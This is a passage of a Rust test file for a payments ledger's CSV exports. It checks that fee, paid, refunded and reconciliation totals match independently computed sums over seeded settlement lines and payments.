    let text = std::fs::read_to_string(csv_path).unwrap();
    assert!(text.contains(",9999999999999.999,9999999999999.999,"));
}

/// Fees summed here line by line in Rust (each line to the payment with its reference,
/// else its order number, in the line's profile), independently of the export's SQL.
/// A settlement line: profile, reference, order no, fee.
type LineRow = (i64, Option<String>, Option<String>, Option<i64>);
/// A payment: id, profile, reference, order no, currency, created.
type PaymentRow = (i64, i64, Option<String>, Option<String>, String, i64);

fn rust_fees(conn: &Connection, profile: Option<&str>, from: i64, to: i64) -> Vec<(String, i64)> {
    let pid = profile.map(|p| profile_id(conn, p));
    let lines: Vec<LineRow> = conn
        .prepare("SELECT profile_id, reference, order_no, fee_minor FROM settlement_lines")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let payments: Vec<PaymentRow> = conn
        .prepare(
            "SELECT id, profile_id, reference_number, order_no, currency, created_at_ms
             FROM payments WHERE hidden = 0 ORDER BY id",
        )
        .unwrap()
        .query_map([], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
            ))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let mut out: std::collections::BTreeMap<String, i64> = Default::default();
    for (lp, reference, order, fee) in lines {
        let found = payments
            .iter()
            .find(|p| p.1 == lp && reference.is_some() && p.2 == reference)
            .or_else(|| {
                payments
                    .iter()
                    .find(|p| p.1 == lp && order.is_some() && p.3 == order)
            });
        if let (Some(p), Some(fee)) = (found, fee)
            && pid.is_none_or(|id| id == p.1)
            && p.5 >= from
            && p.5 < to
        {
            *out.entry(p.4.clone()).or_default() += fee;
        }
    }
    out.into_iter().collect()
}

#[test]
fn fees_are_the_matched_settlement_lines_fees_and_unknown_without_lines() {
    let mut e = env();
    seed(&mut e);
    // No settlement line yet: fees are unknown, not zero.
    let (summary, _) = e.export("ledger", "csv", "f0.csv", |_| {});
    assert!(summary.totals.iter().all(|t| t.fees.is_none()));
    let c = e.conn();
    let shop = profile_id(c, "shop");
    let other = profile_id(c, "other");
    for (i, (profile, reference, order, amount, fee)) in [
        // By reference (s-001), by order number (s-003's "-1+2", its reference unknown).
        (shop, Some("RRN-s-001"), None, 12_500, Some(188)),
        (shop, Some("nope"), Some("-1+2"), 8_000, Some(120)),
        // The refund of s-002, found by its payment's order number.
        (shop, None, Some(HOSTILE_ORDER), -5_000, Some(-75)),
        // Another profile's reference: not shop's s-001.
        (other, Some("RRN-s-001"), None, 12_500, Some(999_999)),
        // USD (other profile), and a line with no fee column.
        (other, Some("RRN-s-004"), None, 725, Some(11)),
        (shop, Some("RRN-s-008"), None, 1_000, None),
        // Unknown line; December payment (outside November); hidden payment.
        (shop, Some("RRN-zzz"), Some("ORD-zzz"), 4_000, Some(60)),
        (shop, Some("RRN-s-009"), None, 2_250, Some(34)),
        (shop, Some("RRN-s-006"), None, 100_000, Some(1_500)),
    ]
    .into_iter()
    .enumerate()
    {
        c.execute(
            "INSERT INTO settlement_lines (profile_id, source, line, line_key, order_no, reference,
                amount_minor, fee_minor, net_minor, currency, settled_on, imported_at_ms)
             VALUES (?1, 'bank.csv', ?2, ?3, ?4, ?5, ?6, ?7, NULL, 'KWD', '2026-11-05', 0)",
            params![
                profile,
                i as i64 + 2,
                format!("k{i}"),
                order,
                reference,
                amount,
                fee
            ],
        )
        .unwrap();
    }
    for (profile, from, to) in [
        (None, None, None),
        (Some("shop"), None, None),
        (Some("other"), None, None),
        (Some("shop"), Some("2026-11-01"), Some("2026-11-30")),
    ] {
        let (summary, path) = e.export("ledger", "csv", "f.csv", |r| {
            r.profile = profile.map(str::to_string);
            r.from = from.map(str::to_string);
            r.to = to.map(str::to_string);
        });
        // The Fees column: each payment's lines; the total row is the column's sum.
        let rows = records(&path);
        let fees_at = rows[0].iter().position(|h| h == "Fees").unwrap();
        for t in &summary.totals {
            let cells = rows[1..]
                .iter()
                .filter(|r| r[0] != "total" && r[5] == t.currency && !r[fees_at].is_empty());
            let sum: Option<i64> = cells.map(|r| minor(&r[fees_at])).reduce(|a, b| a + b);
            let total = rows
                .iter()
                .find(|r| r[0] == "total" && r[5] == t.currency)
                .unwrap();
            let total = (!total[fees_at].is_empty()).then(|| minor(&total[fees_at]));
            assert_eq!(sum, total, "{profile:?} {}", t.currency);
            assert_eq!(total, t.fees.as_deref().map(minor));
        }
        let from_ms = from.map_or(i64::MIN, day_ms);
        let to_ms = to.map_or(i64::MAX, |t| day_ms(t) + 24 * HOUR);
        let expected = rust_fees(e.conn(), profile, from_ms, to_ms);
        let got: Vec<(String, i64)> = summary
            .totals
            .iter()
            .filter_map(|t| t.fees.as_deref().map(|f| (t.currency.clone(), minor(f))))
            .collect();
        assert_eq!(got, expected, "{profile:?} {from:?} {to:?}");
    }
    // Spelled out once: shop's November fees are 0.188 + 0.120 - 0.075 (+ a line without a fee) = 0.233.
    let (summary, _) = e.export("ledger", "csv", "f1.csv", |r| {
        r.profile = Some("shop".into());
        november(r);
    });
    assert_eq!(summary.totals[0].fees.as_deref(), Some("0.233"));
}

/// A `total` row's measure (by its word) for a currency, as minor units (`None`: empty).
fn total_cell(
    rows: &[Vec<String>],
    word_at: usize,
    word: &str,
    cur_at: usize,
    cur: &str,
    at: usize,
) -> Option<i64> {
    let row = rows
        .iter()
        .find(|r| r[0] == "total" && r[word_at] == word && r[cur_at] == cur)
        .unwrap_or_else(|| panic!("no total row {word} {cur}"));
    (!row[at].is_empty()).then(|| minor(&row[at]))
}

fn add_fee_line(conn: &Connection, profile: &str, reference: &str, fee: i64) {
    let pid = profile_id(conn, profile);
    conn.execute(
        "INSERT INTO settlement_lines (profile_id, source, line, line_key, order_no, reference,
            amount_minor, fee_minor, net_minor, currency, settled_on, imported_at_ms)
         VALUES (?1, 'bank.csv', 2, ?2, NULL, ?2, 1, ?3, NULL, 'KWD', '2026-11-05', 0)",
        params![pid, reference, fee],
    )
    .unwrap();
}

#[test]
fn operations_export_totals_are_the_independent_sql_sums_with_paid_and_fees() {
    let mut e = env();
    seed(&mut e);
    add_fee_line(e.conn(), "shop", "RRN-s-001", 188);
    add_fee_line(e.conn(), "shop", "RRN-s-002", 75);
    for profile in [None, Some("shop"), Some("other")] {
        let (summary, path) = e.export("operations", "csv", "o.csv", |r| {
            r.profile = profile.map(str::to_string);
        });
        let expected = sql_totals(e.conn(), profile, i64::MIN, i64::MAX);
        let fees = rust_fees(e.conn(), profile, i64::MIN, i64::MAX);
        assert_eq!(
            summary.totals.iter().map(as_minor).collect::<Vec<_>>(),
            expected
        );
        let rows = records(&path);
        for (cur, t) in &expected {
            // Refunds negative, like the refund rows above them.
            let signed = [t[0], t[1], -t[2], t[3], t[4]];
            for (word, want) in ["paid", "captured", "refunded", "voided", "pending"]
                .iter()
                .zip(signed)
            {
                assert_eq!(
                    total_cell(&rows, 4, word, 7, cur, 8),
                    Some(want),
                    "{profile:?} {word} {cur}"
                );
            }
            let fee = fees.iter().find(|(c, _)| c == cur).map(|f| f.1);
            let has_fee_row = rows
                .iter()
                .any(|r| r[0] == "total" && r[4] == "fees" && r[7] == *cur);
            assert_eq!(
                has_fee_row,
                fee.is_some(),
                "a fees row only where fees are known"
            );
            if fee.is_some() {
                assert_eq!(total_cell(&rows, 4, "fees", 7, cur, 8), fee);
            }
        }
    }
    assert_eq!(
        rust_fees(e.conn(), Some("shop"), i64::MIN, i64::MAX),
        vec![("KWD".to_string(), 263)]
    );
}

#[test]
fn reconciliation_export_ends_with_ledger_and_report_totals_per_currency() {
    let mut e = env();
    seed(&mut e);
    add_fee_line(e.conn(), "shop", "RRN-s-001", 188);
    let report = e.path("report.csv");
    std::fs::write(
        &report,
        "session_id,order_no,parent_session_id,operation,amount,currency,state,created,reference_number,refunded_amount,captured_amount\n\
         s-001,ORD-1,,purchase,12.500,KWD,paid,2026-11-03 10:00:00,,,\n\
         s-002,,,purchase,5.000,KWD,refunded,2026-11-03 11:00:00,,5.000,\n\
         s-003,,,authorize,20.000,KWD,authorized,2026-11-03 12:00:00,,,8.000\n\
         s-new,,,purchase,4.000,KWD,paid,2026-11-10 10:00:00,,,\n\
         s-new-r1,,s-new,refund,1.000,KWD,refunded,2026-11-11 10:00:00,,,\n\
         s-auth2,,,authorize,3.000,KWD,authorized,2026-11-12 10:00:00,,,\n\
         s-auth2-c1,,s-auth2,capture,2.000,KWD,paid,2026-11-12 11:00:00,,,\n",
    )
    .unwrap();
    let run = e
        .ledger
        .reconcile_job(daftar::reconcile::ReconcileRequest {
            profile: "shop".into(),
            report: Some(report),
            from: Some("2026-11-01".into()),
            to: Some("2026-11-30".into()),
            ..Default::default()
        })
        .unwrap()
        .run(&mut |_| {})
        .unwrap();
    let (summary, path) = e.export("reconciliation", "csv", "r.csv", |r| {
        r.reconciliation = Some(run.id)
    });
    let (from, to) = (day_ms("2026-11-01"), day_ms("2026-12-01"));
    let expected = sql_totals(e.conn(), Some("shop"), from, to);
    let fees = rust_fees(e.conn(), Some("shop"), from, to);
    assert_eq!(fees, vec![("KWD".to_string(), 188)]);
    assert_eq!(
        summary.totals.iter().map(as_minor).collect::<Vec<_>>(),
        expected
    );
    assert_eq!(summary.totals[0].fees.as_deref(), Some("0.188"));
    let rows = records(&path);
    // Per-class rows are still there...
    assert!(rows.iter().any(|r| r[0] == "total" && r[1] == "matched"));
    // ...then the ledger's side (independent SQL) and the report's (summed here by hand:
    // paid 12.5 + 5 + 8 captured of s-003 + 4 + 2 captured of s-auth2; refunded 5 + 1).
    let (_, t) = &expected[0];
    let report_side = [31_500, 10_000, 6_000, 0, 0];
    for (i, word) in ["paid", "captured", "refunded", "voided", "pending"]
        .iter()
        .enumerate()
    {
        assert_eq!(
            total_cell(&rows, 1, word, 4, "KWD", 7),
            Some(t[i]),
            "ledger {word}"
        );
        assert_eq!(
            total_cell(&rows, 1, word, 4, "KWD", 8),
            Some(report_side[i]),
            "report {word}"
        );
        assert_eq!(
            total_cell(&rows, 1, word, 4, "KWD", 9),
            Some(report_side[i] - t[i]),
            "difference {word}"
        );
    }
    assert_eq!(total_cell(&rows, 1, "fees", 4, "KWD", 7), Some(188));
    assert_eq!(
        total_cell(&rows, 1, "fees", 4, "KWD", 8),
        None,
        "a report has no fees"
    );
    assert_eq!(rows.last().unwrap()[1], "fees");
}
